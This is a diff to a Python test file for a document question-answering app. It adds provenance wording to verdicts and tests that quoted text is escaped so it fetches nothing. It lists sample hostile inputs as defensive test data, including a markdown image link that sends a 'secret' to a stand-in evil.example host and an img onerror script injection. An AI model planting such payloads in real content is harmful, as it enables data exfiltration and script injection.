@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app import uploads
+from app import provenance, uploads
 from app.conversations import where
 from app.ui import present
 from ingest.report import FileOutcome, IngestReport
@@ -110,25 +110,99 @@ def test_quote_outside_the_evidence_is_shown_alone() -> None:
 
 
 @pytest.mark.parametrize(
-    ("status", "tone"), [("answered", "success"), ("unverified", "warning"), ("not_found", "info")]
+    ("status", "tone"), [("answered", "neutral"), ("unverified", "warning"), ("not_found", "info")]
 )
 def test_verdict_distinguishes_the_three_states(status: str, tone: str) -> None:
     assert present.verdict(_answer(status)).tone == tone
 
 
-def test_an_answer_of_quotes_shows_each_quote_escaped_with_its_badge() -> None:
+def test_a_quote_says_where_it_is_from_never_that_it_is_verified() -> None:
     answer = _answer()
-    cited = answer.citations[0]
-    answer.sentences = [AnswerSentence("See [the form](http://evil.example) *now*.", cited)]
-    shown = present.quote_markdown(answer, 0)
-    assert shown.startswith("> ") and shown.endswith(":blue-badge[1]")
-    assert not _bare("](", shown) and not _bare("*", shown)
+    answer.sentences = [AnswerSentence("Every employee receives 27 days.", answer.citations[0])]
+
     assert present.verdict(answer) == present.Verdict(
-        "success", "Verified: 1 quote of your documents, each on the page it cites."
+        "neutral", "Quoted from handbook.pdf, page 2."
     )
+    answer.lead = "Every employee gets 27 days [1]."
+    answer.made_by = "model"  # the model wrote the lead; the unit is still a quote
+    assert present.lead_markdown(answer) == "Every employee gets 27 days :blue-badge[1]\\."
+    assert present.verdict(answer).message == (
+        "Quoted from handbook.pdf, page 2. The model's answer above is verified against the quote."
+    )
+    answer.lead, answer.made_by = "", "quotes"
     answer.fallback = "the model failed: Cannot reach Ollama"
-    assert present.verdict(answer).tone == "info"
-    assert "could not be verified" in present.verdict(answer).message
+    assert present.verdict(answer) == present.Verdict(
+        "info",
+        "Quoted from handbook.pdf, page 2. "
+        "The model's answer is not shown: the model failed: Cannot reach Ollama.",
+    )
+
+
+def test_a_models_own_sentences_are_verified_against_their_quotes() -> None:
+    answer = _answer()
+    answer.made_by = "model"
+
+    assert present.verdict(answer) == present.Verdict(
+        "neutral", "Each sentence verified against the quote it cites: handbook.pdf, page 2."
+    )
+
+
+def test_several_quotes_are_listed_compactly_by_document_and_page() -> None:
+    def cited(source: str, page: int) -> Citation:
+        return Citation(1, source, "", page, "abc", "q", 0, 1)
+
+    assert provenance.pages([3, 5, 4, 9, 3]) == "pages 3-5 and 9"
+    assert provenance.pages([7]) == "page 7" and provenance.pages([0]) == ""
+    several = [
+        cited("hr/ward-policy.pdf", 3),
+        cited("rota.docx", 0),
+        cited("hr/ward-policy.pdf", 5),
+    ]
+    assert provenance.places(several) == "ward-policy.pdf, pages 3 and 5; rota.docx"
+    many = [cited(f"d{n}.pdf", 1) for n in range(5)]
+    assert provenance.places(many).endswith("d2.pdf, page 1; and 2 other documents")
+
+
+def test_a_unit_is_quoted_line_by_line_with_its_structure() -> None:
+    unit = "The priorities are\\:\n\n1. Safety\n2. Care\n\n```\n$ run <name>\n```"
+
+    shown = present.quote_markdown(unit)
+
+    assert shown.splitlines() == [
+        "> The priorities are\\:",
+        ">",
+        "> 1. Safety",
+        "> 2. Care",
+        ">",
+        "> ```",
+        "> $ run <name>",  # code: shown as written, fetches nothing
+        "> ```",
+    ]
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "See [the form](http://evil.example) *now*.",
+        "![x](http://evil.example/leak?q=secret)",
+        "<img src=x onerror=alert(1)> and \\\\<b>",
+        "visit www.evil.example or https://evil.example/a",
+        ":red[alarm] $x^2$",
+        "[ref]: http://evil.example",
+        "``` not`a fence\n<img src=x>",
+    ],
+)
+def test_a_unit_from_elsewhere_still_fetches_nothing(hostile: str) -> None:
+    shown = present.quote_markdown(hostile)
+
+    for token in ("![", "](", "<img", "<b", "://", "www.", ":red[", "$x", "]:"):
+        assert not _bare(token, re.sub(r"\\\\", "", shown)), (token, shown)
+
+
+def test_safe_markdown_leaves_safe_markdown_as_it_is() -> None:
+    safe = "Run `https://example.org/a?b=<c>` then \\<name\\>\\_x \\[1\\]\n- item\n| a | b |"
+
+    assert present.safe_markdown(safe) == safe
 
 
 def test_citation_label_and_where() -> None:
